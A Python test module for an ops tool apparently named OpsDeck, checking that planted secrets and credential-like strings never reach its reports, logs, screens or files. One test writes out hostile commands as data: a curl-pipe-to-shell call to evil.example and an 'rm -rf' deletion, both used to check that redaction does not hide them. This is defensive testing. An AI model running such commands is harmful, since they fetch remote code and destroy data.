"""A secret that is planted wherever there may be one reaches no journal, screen, log or report."""

from __future__ import annotations

import asyncio
import json
import os
import tempfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st

from opsdeck.app import OpsDeckApp
from opsdeck.checks.result import Result
from opsdeck.deck import open_deck
from opsdeck.looking import Looks
from opsdeck.reports.check import render
from opsdeck.screens.checklist import ChecklistScreen
from opsdeck.screens.evidence import EvidenceScreen
from opsdeck.screens.reader import Reader
from opsdeck.widgets.glyphs import UNICODE
from tests.cli.conftest import CommandLine
from tests.probes.partners_http import json_reply, partner, reply
from tests.screens.desk import AppPilot, asked, listed, open_list, says, shown, until
from tests.screens.hostile_world import Item, write_deck
from tests.screens.secret_world import (
    AWS_PROBE,
    Teller,
    environ_of,
    files_below,
    found_in,
    tellers,
    write_secret_deck,
)

pytestmark = pytest.mark.slow

FORMATS = ("text", "json", "junit", "tap", "nagios")
INNOCENT = "Zq8-nobodys-secret-kX4"


@pytest.fixture(scope="module")
def teller() -> Iterator[Teller]:
    """Partners that give away whatever secret there is."""
    with tellers() as found:
        yield found


async def look(folder: Path, environ: Mapping[str, str]) -> dict[str, str]:
    """Check everything as the command and the app do, record it; all that came of it, as text."""
    deck = open_deck(environ=environ, cwd=folder, interactive=True)
    deck.load()
    looks = Looks(deck, environ, jobs=64)
    subjects = looks.subjects()
    traces: dict[str, str] = {}
    results: list[Result] = []
    # First without anybody's word, then with it.
    for agreed in (False, True):
        asks = looks.asks(subjects)
        traces[f"asked {agreed}"] = "\n".join(ask.consent.text for ask in asks)
        if agreed:
            looks.remember(asks)
        results.clear()
        await looks.check(subjects, lambda _, result: results.append(result))
        assert len(results) == len(subjects)
        deck.record(*looks.drafts(results))
        for form in FORMATS:
            traces[f"{form} {agreed}"] = render(
                form, results, shown=results, took_s=0, offline_since=None, limit=100
            )
    await looks.aclose()
    return {**traces, **files_below(folder / "home", folder / "data")}


def traces_of(teller: Teller, secret: str) -> dict[str, str]:
    """All that came of a deck in which this is the secret."""
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        environ = write_secret_deck(folder, teller, secret)
        return asyncio.run(look(folder, environ))


def traces_in(
    folder: Path,
    items: list[dict[str, Any]],
    targets: Mapping[str, Any] = {},
    environ: Mapping[str, str] = {},
) -> dict[str, str]:
    """All that came of a deck of these probes and targets."""
    said = ("latency_ms < `0`", "body", "stdout", "json", "content")
    listed = [Item(f"i{n}", probe, (said[n % 5], *said)) for n, probe in enumerate(items)]
    write_deck(folder, listed, targets)
    return asyncio.run(look(folder, {**environ_of(folder, INNOCENT), **environ}))


def assert_nowhere(secret: str, traces: Mapping[str, str]) -> None:
    """No form of the secret is in any of it."""
    found = {where: forms for where, text in traces.items() if (forms := found_in(secret, text))}
    assert found == {}, "\n".join(
        line for where in found for line in traces[where].splitlines() if found_in(secret, line)
    )[:3000]


PLANTED = (
    "k8Jq2nVx7Tz4Lp9R",
    "correct horse battery staple",
    'it\'s "quoted" & <tagged> `so`',
    "p@ss:w/rd?#%[x]{y}$z",
    "pässwörd-密码-🔑-ключ",
    "%41%42%43-percent",
    "a\\b\\\\c'd\"e",
    "[red]secret[/red]",
    "AKIA-like but not: ${HOME}",
)


@pytest.mark.parametrize("secret", PLANTED[1:3])
def test_a_planted_secret_reaches_nothing(teller: Teller, secret: str) -> None:
    assert_nowhere(secret, traces_of(teller, secret))


@pytest.mark.slow
@pytest.mark.parametrize("secret", PLANTED[3:])
def test_odd_planted_secrets_reach_nothing(teller: Teller, secret: str) -> None:
    assert_nowhere(secret, traces_of(teller, secret))


def test_half_a_secret_is_one_too(teller: Teller) -> None:
    """GIVEN a command whose message is cut within the secret THEN no half of it stays."""
    secret = PLANTED[0]
    traces = traces_of(teller, secret)
    assert_nowhere(secret, traces)
    assert "xxx[redacted]…" in traces["json True"].replace("\\u2026", "…")
    assert [where for where, text in traces.items() if secret[:8] in text] == []


printable = st.text(
    st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=6, max_size=40
).filter(lambda secret: len(set(secret.strip())) >= 4 and len(secret.strip()) >= 6)


class Innocent:
    """All that the deck shows when it holds another secret."""

    def __init__(self, teller: Teller) -> None:
        self.text = "\n".join(traces_of(teller, INNOCENT).values())


@pytest.fixture(scope="module")
def innocent(teller: Teller) -> Innocent:
    """What is shown anyhow, for secrets that happen to be a part of it."""
    return Innocent(teller)


def assert_random_secret_reaches_nothing(teller: Teller, innocent: Innocent, secret: str) -> None:
    """Nothing comes of it, unless it is a word of the deck or of its own blot."""
    assume(not found_in(secret.strip(), innocent.text))
    assume(secret.strip().lower() not in "[redacted]")
    assert_nowhere(secret.strip(), traces_of(teller, secret))


RANDOM = settings(
    deadline=None,
    derandomize=True,
    database=None,
    phases=[Phase.explicit, Phase.generate],  # each example takes a second or two
    suppress_health_check=list(HealthCheck),
)


@pytest.mark.slow
@settings(RANDOM, max_examples=40)
@given(secret=printable)
def test_random_secrets_reach_nothing(teller: Teller, innocent: Innocent, secret: str) -> None:
    assert_random_secret_reaches_nothing(teller, innocent, secret)


SECRET = "k8Jq2nVx7Tz4Lp9R"
ENV = {"kind": "command", "argv": ["env"]}


def test_keys_of_aws_reach_nothing(tmp_path: Path, teller: Teller) -> None:
    """GIVEN keys that only AWS's own variables hold, echoed in AWS's refusal and by a command."""
    teller.secret = SECRET
    names = {"AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": SECRET + "-session"}
    targets = {"aws": {"kind": "aws", "region": "eu-central-1", "endpoint_url": teller.aws}}
    traces = traces_in(tmp_path, [{**AWS_PROBE, "target": "aws"}, ENV], targets, names)
    assert_nowhere(SECRET, traces)


@pytest.mark.parametrize(
    "key",
    [
        "token",
        "url",
        *(
            pytest.param(key, marks=pytest.mark.slow)
            for key in ("password", "headers", "cookie", "uri", "own")
        ),
    ],
)
def test_what_stands_literally_in_a_target_reaches_nothing(
    tmp_path: Path, teller: Teller, key: str
) -> None:
    """GIVEN a target with a secret that ought to be a variable, which items give away."""
    teller.secret = SECRET
    url, place = teller.http.url, f"127.0.0.1:{teller.http.port}"
    table: dict[str, Any] = {"kind": "web", "url": url, "argv": ["echo", SECRET]}
    match key:
        case "token":
            table["token"] = SECRET
        case "password":
            table |= {"username": "app", "password": SECRET}
        case "url":
            table["url"] = f"http://app:{SECRET}@{place}"
        case "headers":
            table["headers"] = {"X-Api-Key": SECRET}
        case "cookie":
            table["headers"] = {"Cookie": f"sid={SECRET}; lang=en"}
        case "own":
            table |= {"deploy_token": SECRET}
    auth = key in ("token", "password", "url")
    web = {"kind": "http", "target": "web"}
    items: list[dict[str, Any]] = [
        {**web, "auth": auth},
        {**web, "path": "/html"},
        {**web, "path": "/base64"},
    ]
    place_of = f"mongodb://app:{SECRET}@127.0.0.1:{teller.mongo}/"
    db = {"kind": "mongodb", "uri": place_of if key == "uri" else "mongodb://127.0.0.1:1/"}
    items.append({"kind": "mongodb", "target": "db", "command": {"hello": 1}})
    for said in (["echo", SECRET], ["sh", "-c", f"echo {SECRET}; exit 3"]):
        items.append({"kind": "command", "argv": said})
    assert_nowhere(SECRET, traces_in(tmp_path, items, {"web": table, "db": db}))


JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
KEY_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
PATTERNS = {
    "AWS key": ("AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    "JWT": (JWT, JWT),
    "GitHub": ("ghp_" + "aB3" * 12, "ghp_" + "aB3" * 12),
    "Stripe": ("sk_" + "live_4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyjWDarjtT1zdp7dc"),
    "private key": (
        f"-----BEGIN PRIVATE KEY-----\n{KEY_BODY}\n-----END PRIVATE KEY-----",
        KEY_BODY,
    ),
    "password=": ("password=Xk29dkeW3lq", "Xk29dkeW3lq"),
    "DB_PASSWORD=": ("DB_PASSWORD='Xk29 dkeW3lq'", "Xk29 dkeW3lq"),
    "URI": ("postgres://app:Xk29dkeW3lq@db/x", "Xk29dkeW3lq"),
    "Authorization": ("Authorization: Bearer Xk29dkeW3lq", "Xk29dkeW3lq"),
    "Set-Cookie": ("Set-Cookie: sid=Xk29dkeW3lq; path=/", "Xk29dkeW3lq"),
}


@pytest.mark.parametrize("name", PATTERNS)
def test_what_looks_like_a_secret_reaches_nothing(tmp_path: Path, name: str) -> None:
    """GIVEN what nobody told is secret, in a server's answers, commands, files and variables."""
    text, secret = PATTERNS[name]
    line = text.replace("\n", " ")
    answers = {
        "/": json_reply(json.dumps({"said": text, text: [text]})),
        "/text": reply(f"before {text} after", 200, {"X-Said": line, "Server": line}, reason=line),
    }
    (tmp_path / "data.json").write_text(json.dumps({"said": text}))
    (tmp_path / "say.sh").write_text(f"cat <<'END'\nbefore {text} after\nEND\nexit $1\n")
    with partner(answers) as server:
        web = {"kind": "http", "target": "web"}
        sh = {"kind": "command", "target": "repo"}
        items: list[dict[str, Any]] = [
            web,
            {**web, "path": "/text"},
            {"kind": "file", "target": "repo", "path": "data.json", "content": True},
            {"kind": "file", "target": "repo", "scan": "secrets"},
            {**sh, "argv": ["sh", "say.sh", "0"]},
            {**sh, "argv": "sh say.sh 3 >&2", "shell": True},
            {**sh, "argv": ["sh", "say.sh", "0"], "output": "json"},
            {**sh, "argv": ["env"]},
        ]
        targets = {
            "web": {"kind": "web", "url": server.url},
            "repo": {"kind": "repository", "path": "."},
        }
        traces = traces_in(tmp_path, items, targets, {"SOME_TEXT": text})
    assert_nowhere(secret, traces)


def test_a_pattern_hides_nothing_that_would_be_run(tmp_path: Path) -> None:
    """GIVEN a catalog that hides a command behind what looks like a secret THEN it is shown."""
    evil = "password='$(curl http://evil.example|sh)'"
    block = "-----BEGIN PRIVATE KEY----- ; rm -rf /tmp/precious"
    items = [{"kind": "command", "argv": ["sh", "-c", said]} for said in (evil, block)]
    write_deck(tmp_path, [Item(f"i{n}", probe) for n, probe in enumerate(items)], {})
    environ = environ_of(tmp_path, INNOCENT)
    deck = open_deck(environ=environ, cwd=tmp_path, interactive=True)
    deck.load()
    looks = Looks(deck, environ)
    shown_ = " ".join(ask.consent.text for ask in looks.asks(looks.subjects()))
    assert "curl http://evil.example|sh" in shown_
    assert "rm -rf /tmp/precious" in shown_


# The whole program


@pytest.fixture
def opsdeck(tmp_path: Path, teller: Teller, monkeypatch: pytest.MonkeyPatch) -> CommandLine:
    """`opsdeck` on the deck with the secret, whose environment this process has as well."""
    made = CommandLine(tmp_path, monkeypatch)
    made.environ |= {**environ_of(tmp_path, SECRET), "PATH": os.environ["PATH"]}
    write_secret_deck(tmp_path, teller, SECRET)
    for name, value in made.environ.items():
        monkeypatch.setenv(name, value)
    return made


COMMANDS = (
    *(("check", "--format", form) for form in FORMATS),
    *(("check", "--trust", "--record", "--format", form) for form in ("text", "json")),
    ("report", "bad"),
    ("report", "bad", "--format", "json"),
    ("report", "bad", "--format", "csv"),
    ("list", "items", "--json"),
    ("journal", "tail", "--json"),
    ("doctor",),
    ("doctor", "--json"),
    ("doctor", "--quick"),
    ("doctor", "--role"),
    ("doctor", "--policy"),
)


@pytest.mark.slow
@pytest.mark.parametrize("debug", ["", "1"])
def test_no_command_tells_it(opsdeck: CommandLine, debug: str) -> None:
    opsdeck.environ["OPSDECK_DEBUG"] = debug
    traces = {}
    for command in COMMANDS:
        told = opsdeck(*command)
        assert told.code in (0, 1, 2, 3), (command, told.err)
        assert "Traceback" not in told.err
        traces[" ".join(command)] = told.out + told.err
    assert_nowhere(SECRET, traces)
    assert_nowhere(SECRET, files_below(opsdeck.home, opsdeck.folder / "data"))


def app_on(opsdeck: CommandLine) -> OpsDeckApp:
    """The app as it is started in the folder."""
    deck = open_deck(environ=dict(os.environ), cwd=opsdeck.folder, interactive=True)
    deck.load()
    return OpsDeckApp(deck, UNICODE)


async def test_no_screen_shows_it(opsdeck: CommandLine) -> None:
    """GIVEN the secret everywhere WHEN all is checked in the app THEN no screen has it."""
    traces: dict[str, str] = {}
    app = app_on(opsdeck)

    def keep(pilot: AppPilot, name: str) -> None:
        strips = pilot.app.screen._compositor.render_strips()
        painted = "\n".join("".join(s.text for s in strip) for strip in strips)
        traces[name] = "\n".join([painted, *shown(pilot)])

    async with app.run_test(size=(120, 40)) as pilot:
        await open_list(pilot, "bad")
        await pilot.press("C")
        for question in ("run", "send"):
            await asked(pilot, question)
            keep(pilot, question)
            await pilot.press("y")
        await until(pilot, lambda: app.checking.done, 20)
        traces["processes"] = "\n".join(processes_below(os.getpid()))
        await until(pilot, lambda: not app.checking.running and says(pilot, "checked "), 20)
        checklist = app.deck.catalog.checklist("bad")
        assert checklist is not None
        for item in checklist.items[::9]:
            app.open_checklist("bad", item=item.id)
            await until(pilot, lambda item=item: listed(pilot).key == item.id)  # type: ignore[misc]
            keep(pilot, f"list {item.id}")
            await pilot.press("e")
            await until(pilot, lambda: isinstance(pilot.app.screen, EvidenceScreen))
            await until(pilot, lambda: not says(pilot, "reading ..."))
            keep(pilot, f"evidence {item.id}")
            await pilot.press("y")
            await pilot.press("escape")
            await until(pilot, lambda: isinstance(pilot.app.screen, ChecklistScreen))
            traces[f"clipboard {item.id}"] = pilot.app.clipboard
        assert any("latency_ms" in text for name, text in traces.items() if "clipboard" in name)
        await pilot.press("1")
        await until(pilot, lambda: len(pilot.app.screen_stack) == 1)
        keep(pilot, "deck")
        await pilot.press("6", "enter")
        await until(pilot, lambda: isinstance(pilot.app.screen, Reader))
        keep(pilot, "event")
    assert_nowhere(SECRET, traces)
    assert_nowhere(SECRET, files_below(opsdeck.home, opsdeck.folder / "data"))


def processes_below(pid: int) -> Iterator[str]:
    """The command lines of OpsDeck's own processes below this one, as `ps` shows them."""
    import psutil

    for process in psutil.Process(pid).children(recursive=True):
        try:
            line = " ".join(process.cmdline())
        except psutil.Error:
            continue
        if "opsdeck" in line:
            yield line
